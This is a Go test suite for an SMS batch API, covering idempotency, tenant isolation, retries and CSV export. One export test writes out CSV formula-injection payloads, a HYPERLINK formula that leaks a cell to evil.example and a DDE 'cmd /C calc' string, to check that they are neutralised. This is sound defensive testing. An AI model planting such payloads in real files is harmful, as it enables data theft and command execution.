package api

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/smsbatch/smsbatch/commands"
	"github.com/smsbatch/smsbatch/domain"
	"github.com/smsbatch/smsbatch/eventstore"
	esmemory "github.com/smsbatch/smsbatch/eventstore/memory"
	"github.com/smsbatch/smsbatch/projections"
	"github.com/smsbatch/smsbatch/projections/memory"
)

// offsetClock is a clock a test moves.
type offsetClock struct {
	mu  sync.Mutex
	off time.Duration
}

func (c *offsetClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return time.Now().Add(c.off)
}

func (c *offsetClock) advance(d time.Duration) {
	c.mu.Lock()
	c.off += d
	c.mu.Unlock()
}

// hookStore calls hook after every append that stored an event of type typ
// (before it answers), and may block such an append before it is made.
type hookStore struct {
	eventstore.Store
	typ    string
	before func()
	after  func()
	used   atomic.Bool
}

func (h *hookStore) Append(ctx context.Context, stream string, expected eventstore.ExpectedRevision, events []eventstore.EventData) (eventstore.AppendResult, error) {
	hit := false
	for _, e := range events {
		if e.Type == h.typ {
			hit = true
		}
	}
	if hit && h.before != nil && h.used.CompareAndSwap(false, true) {
		h.before()
	}
	res, err := h.Store.Append(ctx, stream, expected, events)
	if hit && err == nil && h.after != nil {
		h.after()
	}
	return res, err
}

// apiOver is the whole API over store, its commands on clock (nil: the
// system's), with the read-your-writes wait ryw (0: the default).
func apiOver(t *testing.T, store eventstore.Store, clock func() time.Time, ryw time.Duration) http.Handler {
	t.Helper()
	rm := memory.New()
	runner, err := projections.NewRunner(projections.RunnerConfig{Events: store, Store: rm})
	if err != nil {
		t.Fatal(err)
	}
	repo, _ := commands.NewRepository(store, 100)
	cmds, err := commands.New(store, repo, clock)
	if err != nil {
		t.Fatal(err)
	}
	keys, _ := ParseKeys("acme:" + liveAcmeKey + ",globex:" + liveGlobexKey)
	handler, err := NewHandler(Config{Commands: cmds, ReadModels: rm, Projections: runner, Keys: keys,
		RateLimit: RateLimit{Requests: -1}, SpoolDir: t.TempDir(), ReadYourWrites: ryw})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); runner.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
	return handler
}

// newClockedAPI is the whole API over store, its commands on clock.
func newClockedAPI(t *testing.T, store eventstore.Store, clock func() time.Time) http.Handler {
	t.Helper()
	return apiOver(t, store, clock, 200*time.Millisecond)
}

func servePost(h http.Handler, ctx context.Context, path, idemKey, body string) *httptest.ResponseRecorder {
	req := httptest.NewRequest(http.MethodPost, path, strings.NewReader(body)).WithContext(ctx)
	req.RemoteAddr = testAddr
	req.Header.Set("Authorization", "Bearer "+liveAcmeKey)
	if idemKey != "" {
		req.Header.Set(IdempotencyHeader, idemKey)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

// A client whose connection drops while its keyed pause runs (the README's
// "a dropped connection": retry with the same key, get the first answer) must
// get the pause's answer on retry. The answer is recorded with the request's
// context, which the drop cancelled: the key stays claimed (409 "still
// running" for the 2-minute lease although nothing runs), and after the lease
// the retry pauses again and records 409 conflict for good.
func TestADroppedConnectionKeepsTheLifecycleAnswer(t *testing.T) {
	clock := &offsetClock{}
	var cancelReq atomic.Pointer[context.CancelFunc]
	store := &hookStore{Store: esmemory.New(), typ: domain.TypeBatchPaused, after: func() {
		if f := cancelReq.Swap(nil); f != nil {
			(*f)() // the client goes away once the pause is stored
		}
	}}
	h := newClockedAPI(t, store, clock.now)
	created := servePost(h, context.Background(), "/api/batch", "", keyedBody("Ada"))
	if created.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", created.Code, created.Body)
	}
	id := keyedAnswer{body: created.Body.Bytes()}.id(t)
	if a := servePost(h, context.Background(), "/api/v2/batch/"+id+"/start", "", ""); a.Code != http.StatusOK {
		t.Fatalf("start: %d %s", a.Code, a.Body)
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancelReq.Store(&cancel)
	first := servePost(h, ctx, "/api/v2/batch/"+id+"/pause", "pause-1", "")
	if first.Code != http.StatusOK {
		t.Fatalf("pause: %d %s", first.Code, first.Body)
	}
	// The client never saw that answer; it retries with its key.
	retry := servePost(h, context.Background(), "/api/v2/batch/"+id+"/pause", "pause-1", "")
	if retry.Code != http.StatusOK {
		t.Errorf("retry right after the drop: %d %s, want the first answer (200)", retry.Code, retry.Body)
	}
	clock.advance(3 * time.Minute) // past the lease
	later := servePost(h, context.Background(), "/api/v2/batch/"+id+"/pause", "pause-1", "")
	if later.Code != http.StatusOK {
		t.Errorf("retry after the lease: %d %s, want the first answer (200)", later.Code, later.Body)
	}
}

// The same for a create whose client drops while its pages are stored: the
// create fails (500), the key is to be released so that the retry runs the
// create again, but the release is made with the cancelled context and the
// retry gets 409 "still running" for two minutes.
func TestADroppedCreateReleasesItsKey(t *testing.T) {
	clock := &offsetClock{}
	var cancelReq atomic.Pointer[context.CancelFunc]
	store := &hookStore{Store: esmemory.New(), typ: domain.TypeRecipientsPageAdded, after: func() {
		if f := cancelReq.Swap(nil); f != nil {
			(*f)()
		}
	}}
	h := newClockedAPI(t, store, clock.now)
	ctx, cancel := context.WithCancel(context.Background())
	cancelReq.Store(&cancel)
	first := servePost(h, ctx, "/api/batch", "order-1", keyedBody("Ada"))
	if first.Code < 500 {
		t.Fatalf("create cut off by the client: %d %s, want a 5xx", first.Code, first.Body)
	}
	retry := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada"))
	if retry.Code != http.StatusCreated {
		t.Fatalf("retry of a create that failed: %d %s, want 201", retry.Code, retry.Body)
	}
}

// A claim's lease is not a fence: a create still storing its batch when the
// lease (2 minutes) ends is taken over by its retry. The retry must not make a
// second batch under a new ID while the first goes on to store its own: one
// Idempotency-Key, two batches would text every recipient twice. One of the two
// creates makes the batch, the other is refused, and the key's answer is that
// batch.
func TestACreateStalledPastItsLeaseMakesOneBatch(t *testing.T) {
	clock := &offsetClock{}
	stalled, goOn := make(chan struct{}), make(chan struct{})
	store := &hookStore{Store: esmemory.New(), typ: domain.TypeBatchCreated, before: func() {
		close(stalled)
		<-goOn // the store fails over with the batch's append in it
	}}
	h := newClockedAPI(t, store, clock.now)
	first := make(chan *httptest.ResponseRecorder, 1)
	go func() { first <- servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada")) }()
	<-stalled
	clock.advance(3 * time.Minute) // past the claim's lease
	retry := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada"))
	if retry.Code != http.StatusCreated {
		t.Fatalf("retry past the lease: %d %s, want 201", retry.Code, retry.Body)
	}
	close(goOn)
	stalledAnswer := <-first
	if stalledAnswer.Code != http.StatusConflict {
		t.Errorf("the stalled create: %d %s, want 409 (its retry took over)", stalledAnswer.Code, stalledAnswer.Body)
	}
	if n := batchesCreated(t, store); n != 1 {
		t.Errorf("%d batches stored under one Idempotency-Key, want 1", n)
	}
	again := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada"))
	if again.Code != http.StatusCreated || (keyedAnswer{body: again.Body.Bytes()}).id(t) != (keyedAnswer{body: retry.Body.Bytes()}).id(t) {
		t.Errorf("the key's answer after both: %d %s, want the retry's batch", again.Code, again.Body)
	}
}

// A create retried past its lease whose first try's batch cannot be looked
// up (the store failing) is not made again under a new ID: the first may have
// stored it. The retry is told to come back.
func TestACreateRetryThatCannotSeeTheFirstTryDoesNotCreate(t *testing.T) {
	clock := &offsetClock{}
	// The first try stores its batch, and its answer is lost with the
	// instance: the record of it fails.
	store := &flakyStore{Store: esmemory.New(), failAppends: domain.TypeIdempotentRequestCompleted}
	h := newClockedAPI(t, store, clock.now)
	if first := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada")); first.Code != http.StatusCreated {
		t.Fatalf("first try: %d %s", first.Code, first.Body)
	}
	clock.advance(3 * time.Minute)
	store.failBatchReads.Store(true)
	retry := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada"))
	if retry.Code < 500 {
		t.Errorf("retry while the first try's batch cannot be read: %d %s, want a 5xx", retry.Code, retry.Body)
	}
	store.failBatchReads.Store(false)
	if n := batchesCreated(t, store); n != 1 {
		t.Errorf("%d batches stored under one Idempotency-Key, want 1", n)
	}
	later := servePost(h, context.Background(), "/api/batch", "order-1", keyedBody("Ada"))
	if later.Code != http.StatusCreated {
		t.Errorf("retry once the store answers: %d %s, want 201 with the first try's batch", later.Code, later.Body)
	}
	if n := batchesCreated(t, store); n != 1 {
		t.Errorf("%d batches stored under one Idempotency-Key after the last retry, want 1", n)
	}
}

// flakyStore fails the appends of events of type failAppends and, while
// failBatchReads is set, every read of a batch stream.
type flakyStore struct {
	eventstore.Store
	failAppends    string
	failBatchReads atomic.Bool
}

func (f *flakyStore) Append(ctx context.Context, stream string, expected eventstore.ExpectedRevision, events []eventstore.EventData) (eventstore.AppendResult, error) {
	for _, e := range events {
		if e.Type == f.failAppends {
			return eventstore.AppendResult{}, fmt.Errorf("append %s: %w", stream, eventstore.ErrUnavailable)
		}
	}
	return f.Store.Append(ctx, stream, expected, events)
}

func (f *flakyStore) ReadStream(ctx context.Context, stream string, from uint64, max int) ([]eventstore.Event, error) {
	if f.failBatchReads.Load() && strings.HasPrefix(stream, domain.BatchStreamPrefix) {
		return nil, fmt.Errorf("read %s: %w", stream, eventstore.ErrUnavailable)
	}
	return f.Store.ReadStream(ctx, stream, from, max)
}

// batchesCreated counts the batches stored.
func batchesCreated(t *testing.T, store eventstore.Store) int {
	t.Helper()
	n := 0
	pos := eventstore.Start
	for {
		events, err := store.ReadAll(context.Background(), pos, 1000)
		if err != nil {
			t.Fatal(err)
		}
		if len(events) == 0 {
			return n
		}
		for _, ev := range events {
			if ev.Type == domain.TypeBatchCreated {
				n++
			}
			pos = ev.Position
		}
	}
}
func TestARenderedMessageOverTheProviderLimitIsRefused(t *testing.T) {
	env := newAPI(t, nil)
	long := strings.Repeat("x", 1000)
	body := `{"text": "{{a}} {{b}}", "recipients": [{"phoneNumber": "+14155550100", "variables": {"a": "` + long + `", "b": "` + long + `"}}]}`
	a := env.do("POST", "/api/batch", testKey, body)
	if a.Code != http.StatusUnprocessableEntity {
		t.Fatalf("messages of 2,001 characters: %d %.200s, want 422", a.Code, a.Body)
	}
}

// Another tenant's batch is a 404 on every sub-resource and command, with
// and without an Idempotency-Key.
func TestAnotherTenantsBatchIsA404Everywhere(t *testing.T) {
	env := newAPI(t, nil)
	a := env.do("POST", "/api/batch", testKey, createBody(`"Hi {{name}}"`, `{"autoStart": false}`))
	if a.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", a.Code, a.Body)
	}
	id := keyedAnswer{body: a.Body.Bytes()}.id(t)
	sched := `{"scheduleTime": "` + time.Now().Add(time.Hour).UTC().Format(time.RFC3339) + `"}`
	for _, rq := range []struct{ method, path, body string }{
		{"GET", "/api/batch/" + id, ""},
		{"GET", "/api/batch/" + id + "/analytics", ""},
		{"GET", "/api/batch/" + id + "/errors", ""},
		{"GET", "/api/batch/" + id + "/recipients", ""},
		{"GET", "/api/batch/" + id + "/export.csv", ""},
		{"POST", "/api/v2/batch/" + id + "/start", ""},
		{"POST", "/api/v2/batch/" + id + "/pause", ""},
		{"POST", "/api/v2/batch/" + id + "/resume", ""},
		{"POST", "/api/v2/batch/" + id + "/cancel", ""},
		{"POST", "/api/v2/batch/" + id + "/schedule", sched},
		{"POST", "/api/v2/batch/" + id + "/retry-failed", ""},
	} {
		for _, idem := range []string{"", "k-" + rq.path[len(rq.path)-6:]} {
			req := httptest.NewRequest(rq.method, rq.path, strings.NewReader(rq.body))
			req.RemoteAddr = testAddr
			req.Header.Set("Authorization", "Bearer "+testOtherKey)
			if idem != "" && rq.method == "POST" {
				req.Header.Set(IdempotencyHeader, idem)
			}
			rec := httptest.NewRecorder()
			env.handler.ServeHTTP(rec, req)
			if rec.Code != http.StatusNotFound {
				t.Errorf("other tenant %s %s (key %q): %d %s, want 404", rq.method, rq.path, idem, rec.Code, rec.Body)
			}
		}
	}
	if b := env.do("GET", "/api/batch/"+id, testKey, ""); !strings.Contains(b.Body.String(), `"status":"pending"`) {
		t.Fatalf("the owner's batch changed: %s", b.Body)
	}
}

// A reschedule body with data after its object is malformed, as a create's is.
func TestRescheduleRefusesDataAfterTheObject(t *testing.T) {
	env := newAPI(t, nil)
	a := env.do("POST", "/api/batch", testKey, createBody(`"Hi {{name}}"`, `{"autoStart": false}`))
	id := keyedAnswer{body: a.Body.Bytes()}.id(t)
	at := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	for _, tail := range []string{" }", " ]"} {
		r := env.do("POST", "/api/v2/batch/"+id+"/schedule", testKey, `{"scheduleTime": "`+at+`"}`+tail)
		if r.Code != http.StatusBadRequest {
			t.Errorf("schedule body ending %q: %d %s, want 400", tail, r.Code, r.Body)
		}
	}
}

// The export's cells that others wrote (the uploader's variable values) are
// never spreadsheet formulas: one starting with = + - @ is kept as text, with a
// leading apostrophe; the phone numbers, E.164, keep their +.
func TestTheExportNeutralisesFormulas(t *testing.T) {
	env := newAPI(t, nil)
	values := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "+1+1", "-1+1", "Ada"}
	var rcps []string
	for i, v := range values {
		data, _ := json.Marshal(v)
		rcps = append(rcps, fmt.Sprintf(`{"phoneNumber": "+1415555010%d", "variables": {"name": %s}}`, i, data))
	}
	a := env.do("POST", "/api/batch", testKey, `{"text": "Hi {{name}}", "options": {"autoStart": false}, "recipients": [`+strings.Join(rcps, ",")+`]}`)
	if a.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", a.Code, a.Body)
	}
	id := keyedAnswer{body: a.Body.Bytes()}.id(t)
	var exp answer
	for deadline := time.Now().Add(5 * time.Second); ; {
		if exp = env.do("GET", "/api/batch/"+id+"/export.csv", testKey, ""); exp.Code == http.StatusOK || time.Now().After(deadline) {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if exp.Code != http.StatusOK {
		t.Fatalf("export: %d %s", exp.Code, exp.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(exp.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(values)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, row := range rows[1:] {
		want := values[i]
		if strings.ContainsAny(want[:1], "=+-@") {
			want = "'" + want
		}
		if got := row[len(exportColumns)]; got != want {
			t.Errorf("recipient %d: variable exported as %q, want %q", i, got, want)
		}
		if !strings.HasPrefix(row[1], "+1415") {
			t.Errorf("recipient %d: phone exported as %q", i, row[1])
		}
	}
}

// failNext dispatches up to max more messages of batch id at at, as another
// instance would, and records each failed for good.
func failNext(t *testing.T, repo *commands.Repository, id string, at time.Time, max int) *domain.Batch {
	t.Helper()
	b, err := repo.Update(context.Background(), id, func(b *domain.Batch) error {
		ds, err := b.Dispatch(at, domain.DispatchRequest{Slice: "s1", PrevSlice: b.LastSlice(), Instance: "i1",
			Deadline: at.Add(10 * time.Second), Max: max, MaxInFlight: max})
		if err != nil {
			return err
		}
		for _, d := range ds {
			if err := b.RecordFailed(at, domain.FailureParams{Index: d.Index, Attempt: d.Attempt, Category: domain.CategoryUnknown}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// totalOf is the progress total of a batch status answered.
func totalOf(t *testing.T, a answer) int {
	t.Helper()
	var st struct {
		Progress struct {
			Total int `json:"total"`
		} `json:"progress"`
	}
	if err := json.Unmarshal(a.Body.Bytes(), &st); err != nil {
		t.Fatalf("%s: %v", a.Body, err)
	}
	return st.Progress.Total
}

// failedThenDelivered creates a batch of n recipients that another instance
// works: every one fails for good, and those delivered says were delivered
// after all (an earlier attempt went out). It returns the batch once the read
// models have every receipt.
func failedThenDelivered(t *testing.T, env *apiEnv, n int, delivered func(i int) bool) string {
	t.Helper()
	var rcpts []string
	for i := range n {
		rcpts = append(rcpts, fmt.Sprintf(`{"phoneNumber": "+1650253%04d", "variables": {"name": "R%d"}}`, i, i))
	}
	a := env.do("POST", "/api/batch", testKey, `{"text": "Hi {{name}}", "options": {"autoStart": true}, "recipients": [`+strings.Join(rcpts, ",")+`]}`)
	if a.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", a.Code, a.Body)
	}
	id := keyedAnswer{body: a.Body.Bytes()}.id(t)
	repo, _ := commands.NewRepository(env.es, 0)
	cmds, err := commands.New(env.es, repo, nil)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	for round, failed := 0, 0; failed < n; round++ {
		failed = failNext(t, repo, id, now.Add(time.Duration(round)*time.Second), 5).Failed()
	}
	count := 0
	for i := range n {
		if !delivered(i) {
			continue
		}
		count++
		if _, _, err := cmds.RecordReceipt(context.Background(), commands.RecordReceipt{BatchID: id, Index: i, Delivered: true, SentAt: now}); err != nil {
			t.Fatal(err)
		}
	}
	for deadline := time.Now().Add(10 * time.Second); ; {
		if r := env.do("GET", "/api/batch/"+id, testKey, ""); strings.Contains(r.Body.String(), fmt.Sprintf(`"delivered":%d`, count)) {
			return id
		}
		if time.Now().After(deadline) {
			t.Fatal("the receipts never reached the read models")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A recipient that failed for good although an earlier attempt of theirs did
// reach the handset (the provider's receipt says delivered) is left out of
// retry-failed: retrying would text them twice.
func TestRetryFailedLeavesOutWhatWasDelivered(t *testing.T) {
	env := newAPI(t, nil)
	id := failedThenDelivered(t, env, 2, func(i int) bool { return i == 0 })
	r := env.do("POST", "/api/v2/batch/"+id+"/retry-failed", testKey, "")
	var retry struct {
		Progress struct {
			Total int `json:"total"`
		} `json:"progress"`
	}
	if r.Code != http.StatusCreated || json.Unmarshal(r.Body.Bytes(), &retry) != nil {
		t.Fatalf("retry-failed: %d %s", r.Code, r.Body)
	}
	if retry.Progress.Total != 1 {
		t.Fatalf("the retry has %d recipients, want 1: the delivered one left out", retry.Progress.Total)
	}
}

// With every failed recipient delivered after all, retry-failed answers 409,
// nothing to retry, whatever their number: past one page of them it was a 422
// about a batch without recipients the caller never sent.
func TestRetryFailedWithEveryFailureDeliveredIsA409AtAnySize(t *testing.T) {
	env := newAPI(t, nil)
	id := failedThenDelivered(t, env, 1001, func(int) bool { return true })
	if r := env.do("POST", "/api/v2/batch/"+id+"/retry-failed", testKey, ""); r.Code != http.StatusConflict {
		t.Fatalf("retry-failed of 1,001 failed recipients, all delivered: %d %s; want 409", r.Code, r.Body)
	}
}
